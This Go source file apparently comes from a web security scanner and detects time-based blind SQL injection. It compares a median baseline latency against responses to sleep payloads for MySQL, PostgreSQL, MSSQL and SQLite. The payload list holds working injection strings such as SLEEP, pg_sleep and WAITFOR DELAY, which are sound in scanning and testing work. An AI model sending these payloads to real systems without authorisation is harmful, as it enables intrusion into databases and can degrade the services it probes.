package sqli

import (
	"context"
	"fmt"
	"slices"
	"strconv"
	"time"

	"github.com/waftester/webscan/pkg/finding"
	"github.com/waftester/webscan/pkg/httpclient"
	"github.com/waftester/webscan/pkg/probe"
	"github.com/waftester/webscan/pkg/target"
)

type sleepPayload struct {
	dbms     DBMS
	template string // %s receives the delay in seconds
}

var sleepPayloads = []sleepPayload{
	{MySQL, "' AND SLEEP(%s)-- -"},
	{MySQL, " AND SLEEP(%s)"},
	{PostgreSQL, "'; SELECT pg_sleep(%s)--"},
	{PostgreSQL, " AND 1=(SELECT 1 FROM pg_sleep(%s))"},
	{MSSQL, "'; WAITFOR DELAY '0:0:%s'--"},
	{SQLite, "' AND 1=randomblob(%s00000000)-- -"},
}

func seconds(d time.Duration) string {
	return strconv.FormatFloat(d.Seconds(), 'g', -1, 64)
}

// timeBased measures the median latency of the unmodified request, then
// sends each sleep payload up to ConfirmTrials times. A trial hits when it
// exceeds the baseline by DelayFactor*Delay; trials stop at the first miss.
func (t *Tester) timeBased(ctx context.Context, tg target.Target, p probe.InjectionPoint) (*finding.Finding, error) {
	baseline, err := t.baselineLatency(ctx, tg, p)
	if err != nil {
		return nil, err
	}
	threshold := time.Duration(t.config.DelayFactor * float64(t.config.Delay))

	for _, sp := range sleepPayloads {
		value := p.Original + fmt.Sprintf(sp.template, seconds(t.config.Delay))
		hits := 0
		var (
			last    *httpclient.Response
			elapsed []time.Duration
		)
		for range t.config.ConfirmTrials {
			resp, err := t.send(ctx, tg, p, value, "sqli/time")
			if err != nil {
				if isTimeout(err) {
					break
				}
				return nil, err
			}
			if resp.Elapsed-baseline < threshold {
				break
			}
			hits++
			last = resp
			elapsed = append(elapsed, resp.Elapsed)
		}
		if hits < t.config.LikelyTrials {
			continue
		}
		conf := finding.Likely
		if hits >= t.config.ConfirmTrials {
			conf = finding.Confirmed
		}
		detail := fmt.Sprintf("delay=%s baseline=%s trials=%d/%d elapsed=%v",
			t.config.Delay, baseline.Round(time.Millisecond), hits, t.config.ConfirmTrials, roundAll(elapsed))
		return t.newFinding(tg, p, TimeBased, conf, value, last, detail, "dbms:"+string(sp.dbms)), nil
	}
	return nil, nil
}

func (t *Tester) baselineLatency(ctx context.Context, tg target.Target, p probe.InjectionPoint) (time.Duration, error) {
	samples := make([]time.Duration, 0, t.config.BaselineSamples)
	for range t.config.BaselineSamples {
		resp, err := t.send(ctx, tg, p, p.Original, "sqli/time-baseline")
		if err != nil {
			return 0, err
		}
		samples = append(samples, resp.Elapsed)
	}
	slices.Sort(samples)
	return samples[len(samples)/2], nil
}

func roundAll(ds []time.Duration) []time.Duration {
	out := make([]time.Duration, len(ds))
	for i, d := range ds {
		out[i] = d.Round(time.Millisecond)
	}
	return out
}
